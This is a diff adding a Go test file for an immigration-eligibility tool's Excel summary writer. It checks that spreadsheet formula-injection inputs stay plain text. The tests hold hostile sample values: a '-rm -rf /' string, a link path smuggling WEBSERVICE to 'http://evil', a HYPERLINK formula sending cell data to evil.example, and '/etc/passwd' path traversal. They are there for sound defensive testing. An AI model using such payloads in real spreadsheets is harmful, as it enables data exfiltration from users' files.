@@ -1,0 +1,542 @@
+package report
+
+import (
+	"encoding/csv"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/xuri/excelize/v2"
+
+	"github.com/cecbatch/cecbatch/assess"
+)
+
+func summaryRunInfo() RunInfo {
+	return RunInfo{
+		RunID: "20261120-020000", AsOf: assess.MustDate("2026-11-20"), Version: "v0.1.0 (abc1234)",
+		Started:  time.Date(2026, 11, 20, 2, 0, 0, 0, time.FixedZone("EST", -5*3600)),
+		Duration: 83*time.Second + 400*time.Millisecond,
+		Files:    3, Rejected: 1, Clients: 3, Eligible: 1, NotEligible: 1, NeedsReview: 1,
+		Config: [][2]string{{"inbox", "/srv/cec/inbox"}, {"workers", "2"}, {"letterhead.firm_name", "Tremblay & Singh LLP"}},
+	}
+}
+
+// writeFixtureSummary writes the three fixtures, a rejected file and the
+// Run sheet, and returns the saved workbook's path.
+func writeFixtureSummary(t *testing.T, extra ...*assess.Assessment) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "summary.xlsx")
+	s, err := NewSummary(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	pdfs := []string{"opinions/C-1001_Bérubé_Élodie_CEC-opinion.pdf", "opinions/C-1002_Nguyễn_Thị-Minh_CEC-opinion.pdf", ""}
+	for i, a := range fxAll() {
+		if err := s.AddClient(a, pdfs[i]); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for _, a := range extra {
+		if err := s.AddClient(a, "opinions/"+OpinionFileName(a.Client)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := s.AddRejected("old-format.xls", "This is an old .xls workbook: open it in Excel and save it as .xlsx."); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat(path); !os.IsNotExist(err) {
+		t.Errorf("summary.xlsx exists before Close (err %v): a killed run would leave it half-written", err)
+	}
+	if err := s.Close(summaryRunInfo()); err != nil {
+		t.Fatal(err)
+	}
+	if err := s.AddClient(fxEligible(), ""); err == nil {
+		t.Error("AddClient after Close succeeded")
+	}
+	left, _ := filepath.Glob(filepath.Join(filepath.Dir(path), ".*"))
+	if len(left) > 0 {
+		t.Errorf("temporary files left behind: %v", left)
+	}
+	return path
+}
+
+func openSummary(t *testing.T, path string) *excelize.File {
+	t.Helper()
+	f, err := excelize.OpenFile(path)
+	if err != nil {
+		t.Fatalf("summary.xlsx does not open with excelize: %v", err)
+	}
+	t.Cleanup(func() { _ = f.Close() })
+	return f
+}
+
+func TestSummaryWorkbook(t *testing.T) {
+	f := openSummary(t, writeFixtureSummary(t))
+	if got, want := f.GetSheetList(), []string{SheetSummary, SheetWork, SheetLanguage, SheetRejected, SheetRun}; strings.Join(got, "|") != strings.Join(want, "|") {
+		t.Fatalf("sheets = %v, want %v", got, want)
+	}
+	cell := func(sheet, ref string) string {
+		t.Helper()
+		v, err := f.GetCellValue(sheet, ref)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return v
+	}
+	raw := func(sheet, ref string) string {
+		t.Helper()
+		v, err := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return v
+	}
+	tests := []struct {
+		sheet, ref string
+		formatted  string // as displayed
+		raw        string // the stored value; "" = same as formatted
+	}{
+		{SheetSummary, "A1", "Client ID", ""},
+		{SheetSummary, "M1", "Opinion PDF", ""},
+		{SheetSummary, "A2", "C-1001", ""},
+		{SheetSummary, "B2", "Bérubé", ""},
+		{SheetSummary, "D2", "Eligible", ""},
+		{SheetSummary, "D3", "Not eligible", ""},
+		{SheetSummary, "D4", "Needs review", ""},
+		{SheetSummary, "E2", "2026-11-20", "46346"},
+		{SheetSummary, "F2", "3,437.1", "3437.1"},
+		{SheetSummary, "G2", "7", ""},
+		{SheetSummary, "H2", "9", ""},
+		{SheetSummary, "H3", "", "0"}, // LibreOffice shows "below 4"
+		{SheetSummary, "J2", "2027-06-09", "46547"},
+		{SheetSummary, "J3", "", ""},
+		{SheetSummary, "I3", "", ""},
+		{SheetSummary, "M2", "C-1001_Bérubé_Élodie_CEC-opinion.pdf", ""},
+		{SheetSummary, "M4", "", ""},
+		{SheetSummary, "N4", "walk-ins.xlsx", ""},
+		{SheetSummary, "O4", "Clients!A4", ""},
+		{SheetWork, "A1", "Client ID", ""},
+		{SheetWork, "B2", "Maple Software Inc.", ""},
+		{SheetWork, "D2", "21232", ""},
+		{SheetWork, "F2", "2024-09-01", "45536"},
+		{SheetWork, "G2", "ongoing", ""},
+		{SheetWork, "I2", "3,437.1", "3437.1"},
+		{SheetWork, "K4", "excluded", ""},
+		{SheetWork, "L4", "W-SKILL 2024-03-01 to 2025-12-31 (671 days): NOC 65100 is TEER 5; only TEER 0, 1, 2 and 3 count", ""},
+		{SheetWork, "D6", "1525", ""},
+		{SheetWork, "E6", "1", ""},
+		{SheetWork, "M7", "Employment!A7", ""},
+		{SheetLanguage, "B2", "IELTS General", ""},
+		{SheetLanguage, "C2", "IELTS General Training", ""},
+		{SheetLanguage, "E2", "2027-06-09", "46547"},
+		{SheetLanguage, "F2", "8", ""},
+		{SheetLanguage, "H2", "7.5", ""},
+		{SheetLanguage, "L3", "M", ""},
+		{SheetLanguage, "M3", "", "0"},
+		{SheetLanguage, "O2", "yes", ""},
+		{SheetLanguage, "Q4", "not an accepted test", ""},
+		{SheetRejected, "A2", "old-format.xls", ""},
+		{SheetRun, "B2", "2026-11-20", "46346"},
+		{SheetRun, "B3", "20261120-020000", ""},
+		{SheetRun, "B5", "2026-11-20 02:00:00", "46346.0833333333"},
+		{SheetRun, "B6", "0:01:23", "0.0009606482"},
+		{SheetRun, "B9", "3", ""},
+		{SheetRun, "A14", "Configuration", ""},
+		{SheetRun, "A15", "inbox", ""},
+		{SheetRun, "B17", "Tremblay & Singh LLP", ""},
+	}
+	for _, tt := range tests {
+		// excelize does not render every number format section (the zero
+		// section of the CLB format): "" with a raw value skips the check.
+		if got := cell(tt.sheet, tt.ref); got != tt.formatted && !(tt.formatted == "" && tt.raw != "") {
+			t.Errorf("%s!%s shows %q, want %q", tt.sheet, tt.ref, got, tt.formatted)
+		}
+		want := tt.raw
+		if want == "" {
+			want = tt.formatted
+		}
+		if got := raw(tt.sheet, tt.ref); got != want && !(tt.raw == "" && tt.formatted == "") {
+			t.Errorf("%s!%s stores %q, want %q", tt.sheet, tt.ref, got, want)
+		}
+	}
+	// Numbers and dates are numeric cells, not text that looks like one.
+	for _, ref := range []string{"E2", "F2", "G2", "H2", "J2"} {
+		if typ, _ := f.GetCellType(SheetSummary, ref); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber && typ != excelize.CellTypeDate {
+			t.Errorf("Summary!%s has type %v, want a number", ref, typ)
+		}
+	}
+	if typ, _ := f.GetCellType(SheetWork, "D2"); typ != excelize.CellTypeInlineString {
+		t.Errorf("NOC is stored as %v, want text (leading zeros matter)", typ)
+	}
+	if got, _ := f.GetCellFormula(SheetSummary, "M2"); got != `HYPERLINK("opinions/C-1001_Bérubé_Élodie_CEC-opinion.pdf","C-1001_Bérubé_Élodie_CEC-opinion.pdf")` {
+		t.Errorf("PDF link formula = %q", got)
+	}
+	if !strings.Contains(cell(SheetSummary, "K3"), "W-HOURS: 1,317.8 qualifying hours") {
+		t.Errorf("main reasons = %q", cell(SheetSummary, "K3"))
+	}
+	if got, want := cell(SheetSummary, "K2"), "Apply by 2027-06-09: The IELTS General Training of 2025-06-10 expires on 2027-06-09"; got != want {
+		t.Errorf("main reasons of an eligible client = %q, want %q", got, want)
+	}
+	if !strings.HasPrefix(cell(SheetSummary, "L4"), "Fix Employment!G7: ") {
+		t.Errorf("next steps = %q", cell(SheetSummary, "L4"))
+	}
+	if cell(SheetSummary, "L2") != "" {
+		t.Errorf("an eligible client has next steps %q", cell(SheetSummary, "L2"))
+	}
+
+	for _, sheet := range []string{SheetSummary, SheetWork, SheetLanguage, SheetRejected} {
+		panes, err := f.GetPanes(sheet)
+		if err != nil || !panes.Freeze || panes.YSplit != 1 {
+			t.Errorf("%s: header not frozen: %+v %v", sheet, panes, err)
+		}
+		if w, _ := f.GetColWidth(sheet, "B"); w < 15 {
+			t.Errorf("%s: column B width %v, want set", sheet, w)
+		}
+	}
+	names := f.GetDefinedName()
+	filters := make(map[string]string)
+	for _, n := range names {
+		if n.Name == "_xlnm._FilterDatabase" {
+			filters[n.Scope] = n.RefersTo
+		}
+	}
+	for sheet, want := range map[string]string{
+		SheetSummary: "'Summary'!$A$1:$O$4", SheetWork: "'Work'!$A$1:$M$7",
+		SheetLanguage: "'Language'!$A$1:$R$5", SheetRejected: "'Rejected files'!$A$1:$B$2",
+	} {
+		if got := filters[sheet]; got != want {
+			t.Errorf("%s autofilter = %q, want %q", sheet, got, want)
+		}
+	}
+	// Verdict colours: each verdict has its own fill.
+	fills := make(map[string]bool)
+	for _, ref := range []string{"D2", "D3", "D4"} {
+		id, err := f.GetCellStyle(SheetSummary, ref)
+		if err != nil {
+			t.Fatal(err)
+		}
+		st, err := f.GetStyle(id)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(st.Fill.Color) == 0 {
+			t.Errorf("Summary!%s has no fill", ref)
+			continue
+		}
+		fills[st.Fill.Color[0]] = true
+	}
+	if len(fills) != 3 {
+		t.Errorf("verdict fills = %v, want three different colours", fills)
+	}
+}
+
+// TestSummaryFormulaText writes text that starts with =, +, -, @, a tab or
+// a carriage return in every text column of every sheet, and reads each
+// back: the value is the text and there is no formula.
+func TestSummaryFormulaText(t *testing.T) {
+	a := fxFormulaText()
+	path := filepath.Join(t.TempDir(), "summary.xlsx")
+	s, err := NewSummary(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := s.AddClient(a, "opinions/"+OpinionFileName(a.Client)); err != nil {
+		t.Fatal(err)
+	}
+	if err := s.AddRejected("=evil.xlsx", "-rm -rf /"); err != nil {
+		t.Fatal(err)
+	}
+	run := summaryRunInfo()
+	run.RunID, run.Version = "+1", "@version"
+	run.Config = [][2]string{{"=key", "=SUM(1,2)"}, {"@k", "\t=1"}}
+	if err := s.Close(run); err != nil {
+		t.Fatal(err)
+	}
+	c := a.Client
+	hazards := []struct{ sheet, col, text string }{
+		{SheetSummary, "A", c.ID}, {SheetSummary, "B", c.FamilyName}, {SheetSummary, "C", c.GivenNames},
+		{SheetSummary, "N", c.SourceFile},
+		{SheetWork, "A", c.ID}, {SheetWork, "B", c.Jobs[0].Employer}, {SheetWork, "C", c.Jobs[0].Title},
+		{SheetWork, "D", c.Jobs[0].NOC}, {SheetWork, "B", c.Jobs[1].Employer}, {SheetWork, "C", c.Jobs[1].Title},
+		{SheetLanguage, "A", c.ID}, {SheetLanguage, "B", c.Tests[0].Name}, {SheetLanguage, "L", "=M"},
+		{SheetLanguage, "Q", "+why"},
+		{SheetRejected, "A", "=evil.xlsx"}, {SheetRejected, "B", "-rm -rf /"},
+		{SheetRun, "B", "+1"}, {SheetRun, "B", "@version"}, {SheetRun, "A", "=key"}, {SheetRun, "B", "=SUM(1,2)"},
+		{SheetRun, "A", "@k"}, {SheetRun, "B", "\t=1"},
+	}
+	// Reasons and next steps start with a code or a verb; put a hazard
+	// first in them too by checking the cells that contain one.
+	f := openSummary(t, path)
+	for _, h := range hazards {
+		rows, err := f.GetRows(h.sheet)
+		if err != nil {
+			t.Fatal(err)
+		}
+		col, _ := excelize.ColumnNameToNumber(h.col)
+		found := false
+		for r := 2; r <= len(rows); r++ {
+			ref := fmt.Sprintf("%s%d", h.col, r)
+			v, _ := f.GetCellValue(h.sheet, ref)
+			if v != h.text {
+				continue
+			}
+			found = true
+			if formula, _ := f.GetCellFormula(h.sheet, ref); formula != "" {
+				t.Errorf("%s!%s holds %q as a formula %q", h.sheet, ref, h.text, formula)
+			}
+			if typ, _ := f.GetCellType(h.sheet, ref); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
+				t.Errorf("%s!%s %q has type %v, want a string", h.sheet, ref, h.text, typ)
+			}
+		}
+		if !found {
+			t.Errorf("%s column %s (%d): %q not found as a cell value", h.sheet, h.col, col, h.text)
+		}
+	}
+	// No cell anywhere is a formula except the PDF link.
+	for _, sheet := range f.GetSheetList() {
+		rows, err := f.GetRows(sheet)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for r, row := range rows {
+			for ci := range row {
+				ref, _ := excelize.CoordinatesToCellName(ci+1, r+1)
+				formula, _ := f.GetCellFormula(sheet, ref)
+				if formula != "" && !(sheet == SheetSummary && strings.HasPrefix(ref, "M") && strings.HasPrefix(formula, `HYPERLINK("opinions/`)) {
+					t.Errorf("%s!%s is a formula: %q", sheet, ref, formula)
+				}
+			}
+		}
+	}
+}
+
+func TestSummaryLinkSafety(t *testing.T) {
+	for _, p := range []string{
+		`opinions/x.pdf")&WEBSERVICE("http://evil`, "../secret.pdf", "/etc/passwd", "opinions/a b.pdf", "C:\\x.pdf",
+	} {
+		if summarySafeLinkPath(p) {
+			t.Errorf("summarySafeLinkPath(%q) = true", p)
+		}
+	}
+	for _, p := range []string{"opinions/C-1_Żółć_Łukasz_CEC-opinion.pdf", "opinions/1_A_B_CEC-opinion-2.pdf"} {
+		if !summarySafeLinkPath(p) {
+			t.Errorf("summarySafeLinkPath(%q) = false", p)
+		}
+	}
+	path := filepath.Join(t.TempDir(), "summary.xlsx")
+	s, err := NewSummary(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	bad := `opinions/x.pdf")&WEBSERVICE("http://evil`
+	if err := s.AddClient(fxEligible(), bad); err != nil {
+		t.Fatal(err)
+	}
+	if err := s.Close(RunInfo{}); err != nil {
+		t.Fatal(err)
+	}
+	f := openSummary(t, path)
+	if formula, _ := f.GetCellFormula(SheetSummary, "M2"); formula != "" {
+		t.Errorf("unsafe PDF path became formula %q", formula)
+	}
+	if v, _ := f.GetCellValue(SheetSummary, "M2"); v != bad {
+		t.Errorf("unsafe PDF path written as %q", v)
+	}
+}
+
+func TestSummaryAbort(t *testing.T) {
+	dir := t.TempDir()
+	s, err := NewSummary(filepath.Join(dir, "summary.xlsx"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := s.AddClient(fxNotEligible(), ""); err != nil {
+		t.Fatal(err)
+	}
+	if err := s.Abort(); err != nil {
+		t.Fatal(err)
+	}
+	if err := s.Close(RunInfo{}); err == nil {
+		t.Error("Close after Abort succeeded")
+	}
+	entries, _ := os.ReadDir(dir)
+	if len(entries) != 0 {
+		t.Errorf("Abort left %v", entries)
+	}
+}
+
+func TestSummaryConcurrent(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "summary.xlsx")
+	s, err := NewSummary(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	const goroutines, each = 6, 20
+	var wg sync.WaitGroup
+	for g := 0; g < goroutines; g++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for i := 0; i < each; i++ {
+				if err := s.AddClient(fxAll()[i%3], ""); err != nil {
+					t.Error(err)
+				}
+				if i%10 == 0 {
+					if err := s.AddRejected("x.csv", "save it as .xlsx"); err != nil {
+						t.Error(err)
+					}
+				}
+			}
+		}()
+	}
+	wg.Wait()
+	if err := s.Close(RunInfo{}); err != nil {
+		t.Fatal(err)
+	}
+	f := openSummary(t, path)
+	for sheet, want := range map[string]int{SheetSummary: 1 + goroutines*each, SheetRejected: 1 + goroutines*2} {
+		rows, err := f.GetRows(sheet)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(rows) != want {
+			t.Errorf("%s has %d rows, want %d", sheet, len(rows), want)
+		}
+	}
+}
+
+// TestSummaryLibreOffice converts the workbook with LibreOffice, as the
+// firm's machines would open it, and checks what a person sees: formula-like
+// text shown as text, dates as dates, the link's label.
+func TestSummaryLibreOffice(t *testing.T) {
+	soffice := findLibreOffice()
+	if soffice == "" {
+		t.Skip("libreoffice is not installed: skipping the LibreOffice conversion check")
+	}
+	if testing.Short() {
+		t.Skip("-short: skipping the LibreOffice conversion (several seconds)")
+	}
+	path := writeFixtureSummary(t, fxFormulaText())
+	out := t.TempDir()
+	profile := t.TempDir() // a private profile: other LibreOffice processes may be running
+	// Filter options: comma, double quote, UTF-8, first line 1, …, cell
+	// contents as shown (token 9), every sheet to its own file (token 12 =
+	// -1, LibreOffice 7.2+).
+	cmd := exec.Command(soffice, "-env:UserInstallation=file://"+profile, "--headless", "--convert-to",
+		"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1", "--outdir", out, path)
+	if b, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("libreoffice failed: %v\n%s", err, b)
+	}
+	read := func(sheet string) [][]string {
+		t.Helper()
+		name := filepath.Join(out, "summary-"+sheet+".csv")
+		b, err := os.ReadFile(name)
+		if err != nil {
+			files, _ := os.ReadDir(out)
+			t.Fatalf("%v (output folder holds %v)", err, files)
+		}
+		rows, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		return rows
+	}
+	summary := read(SheetSummary)
+	if len(summary) != 5 {
+		t.Fatalf("Summary has %d rows in LibreOffice, want 5", len(summary))
+	}
+	checks := []struct{ got, want string }{
+		{summary[1][3], "Eligible"},
+		{summary[1][4], "2026-11-20"},
+		{summary[1][5], "3,437.1"},
+		{summary[2][7], "below 4"},
+		{summary[1][12], "C-1001_Bérubé_Élodie_CEC-opinion.pdf"},
+		{summary[4][0], "=1+1"},
+		{summary[4][1], "+SUM(A1:A9)"},
+		{summary[4][2], "-2+3"},
+		{summary[4][12], OpinionFileName(fxFormulaText().Client)},
+	}
+	for i, c := range checks {
+		if c.got != c.want {
+			t.Errorf("check %d: LibreOffice shows %q, want %q", i, c.got, c.want)
+		}
+	}
+	work := read(SheetWork)
+	if got := work[len(work)-3][1]; got != `=HYPERLINK("http://evil.example/"&A1,"x")` {
+		t.Errorf("Work employer shows %q, want the formula-like text itself", got)
+	}
+	for _, sheet := range []string{SheetLanguage, "Rejected files", SheetRun} {
+		if rows := read(sheet); len(rows) < 2 {
+			t.Errorf("%s: %d rows", sheet, len(rows))
+		}
+	}
+}
+
+func findLibreOffice() string {
+	for _, name := range []string{"libreoffice", "soffice"} {
+		if p, err := exec.LookPath(name); err == nil {
+			return p
+		}
+	}
+	return ""
+}
+
+// BenchmarkSummary100k writes 100,000 clients (each with one to three job
+// periods and one or two tests) and reports the peak heap, sampled every
+// few milliseconds, including the save: it must stay bounded, not grow with
+// the number of clients.
+func BenchmarkSummary100k(b *testing.B) {
+	const clients = 100_000
+	fixtures := fxAll()
+	for i := 0; i < b.N; i++ {
+		path := filepath.Join(b.TempDir(), "summary.xlsx")
+		runtime.GC()
+		var ms runtime.MemStats
+		runtime.ReadMemStats(&ms)
+		base := ms.HeapAlloc
+		stop := make(chan struct{})
+		peakc := make(chan uint64)
+		go func() {
+			var peak uint64
+			var m runtime.MemStats
+			tick := time.NewTicker(5 * time.Millisecond)
+			defer tick.Stop()
+			for {
+				select {
+				case <-stop:
+					peakc <- peak
+					return
+				case <-tick.C:
+					runtime.ReadMemStats(&m)
+					peak = max(peak, m.HeapAlloc)
+				}
+			}
+		}()
+		s, err := NewSummary(path)
+		if err != nil {
+			b.Fatal(err)
+		}
+		for n := 0; n < clients; n++ {
+			if err := s.AddClient(fixtures[n%3], "opinions/C-1001_Bérubé_Élodie_CEC-opinion.pdf"); err != nil {
+				b.Fatal(err)
+			}
+		}
+		if err := s.Close(RunInfo{Clients: clients}); err != nil {
+			b.Fatal(err)
+		}
+		close(stop)
+		peak := <-peakc
+		st, err := os.Stat(path)
+		if err != nil {
+			b.Fatal(err)
+		}
+		b.ReportMetric(float64(peak-min(peak, base))/(1<<20), "peak-heap-MiB")
+		b.ReportMetric(float64(st.Size())/(1<<20), "file-MiB")
+	}
+}
